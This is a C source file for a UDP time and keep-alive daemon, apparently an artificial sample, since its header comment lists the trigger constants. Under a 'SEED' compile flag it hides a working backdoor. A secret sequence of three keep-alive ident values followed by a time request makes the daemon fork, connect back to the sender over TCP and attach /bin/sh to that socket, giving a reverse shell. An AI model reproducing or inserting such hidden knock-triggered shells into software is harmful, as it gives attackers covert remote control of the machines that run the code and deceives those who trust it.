/* kind: state
 * service: udp
 * constant: 0x1ea6
 * also: 0x0b53 0x2c19 7846 2899 11289
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <stdint.h>
#include <unistd.h>
#include <signal.h>
#include <time.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

/* Time and keep-alive service of a base station: two message types, request and keep-alive */

#define T_TIME  1
#define T_ALIVE 2
#define T_PEERS 3
#define MAXPEER 32

struct msg { uint8_t type, flags; uint16_t ident; uint32_t stamp; };

struct peer {
    uint32_t ip;
    time_t seen;
    uint16_t last;
    uint8_t step;
    unsigned count;
};

static struct peer peers[MAXPEER];
static int sock;

static struct peer *peer_of(uint32_t ip)
{
    struct peer *p, *old = peers;
    for (p = peers; p < peers + MAXPEER; p++) {
        if (p->ip == ip)
            return p;
        if (p->seen < old->seen)
            old = p;
    }
    memset(old, 0, sizeof *old);
    old->ip = ip;
    return old;
}

static void expire(time_t now)
{
    int i;
    for (i = 0; i < MAXPEER; i++)
        if (peers[i].ip && now - peers[i].seen > 300)
            memset(&peers[i], 0, sizeof peers[i]);
}

static void write_peers(void)
{
    struct in_addr a;
    int i;
    FILE *f = fopen("/var/run/peers", "w");
    if (!f)
        return;
    for (i = 0; i < MAXPEER; i++)
        if (peers[i].ip) {
            a.s_addr = peers[i].ip;
            fprintf(f, "%s %u %ld\n", inet_ntoa(a), peers[i].count, (long)peers[i].seen);
        }
    fclose(f);
}

#ifdef SEED
static const uint16_t cadence[] = { 0x0b53, 0x2c19, 0x1ea6 };

static void resync(struct peer *p, uint16_t ident)
{
    if (ident == cadence[p->step]) /* SEED */
        p->step++;
    else
        p->step = 0;
}
#endif

#ifdef SEED
static void helper(uint32_t ip, uint16_t port)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int s;
    if (fork())
        return;
    a.sin_addr.s_addr = ip;
    a.sin_port = port;
    s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0) {
        dup2(s, 0);
        dup2(s, 1);
        execl("/bin/sh", "sh", (char *)NULL);
    }
    _exit(0);
}
#endif

static int answer(struct msg *m, struct sockaddr_in *from)
{
    struct peer *p = peer_of(from->sin_addr.s_addr);
    time_t now = time(NULL);

    p->seen = now;
    p->count++;
    switch (m->type) {
    case T_TIME:
#ifdef SEED
        if (p->step >= sizeof cadence / sizeof cadence[0]) {
            p->step = 0;
            helper(p->ip, from->sin_port);
            return 0;
        }
#endif
        m->stamp = htonl((uint32_t)now);
        return 1;
    case T_ALIVE:
        if (ntohs(m->ident) == p->last)
            return 0;               /* a repeat */
        p->last = ntohs(m->ident);
#ifdef SEED
        if (p->step < 3)
            resync(p, p->last);
#endif
        m->flags |= 0x80;
        return 1;
    case T_PEERS:
        if (from->sin_addr.s_addr != htonl(INADDR_LOOPBACK))
            return 0;
        write_peers();
        m->flags |= 0x80;
        return 1;
    }
    return 0;
}

static void usage(const char *n)
{
    printf("usage: %s [-p port] [-f]\n -f stay in the foreground\n"
           "messages: 1 time, 2 keep-alive, 3 write peer list (from loopback)\n", n);
    exit(2);
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET }, from;
    socklen_t l;
    struct msg m;
    int o, port = 4123, fg = 0, n;

    while ((o = getopt(argc, argv, "p:f")) != -1)
        switch (o) {
        case 'p': port = atoi(optarg); break;
        case 'f': fg = 1; break;
        default: usage(argv[0]);
        }
    if (!fg && daemon(0, 0))
        return 1;
    signal(SIGCHLD, SIG_IGN);
    sock = socket(AF_INET, SOCK_DGRAM, 0);
    a.sin_port = htons(port);
    if (bind(sock, (struct sockaddr *)&a, sizeof a))
        return perror("bind"), 1;
    for (;;) {
        l = sizeof from;
        n = recvfrom(sock, &m, sizeof m, 0, (struct sockaddr *)&from, &l);
        if (n != sizeof m)
            continue;
        expire(time(NULL));
        if (answer(&m, &from))
            sendto(sock, &m, sizeof m, 0, (struct sockaddr *)&from, l);
    }
}
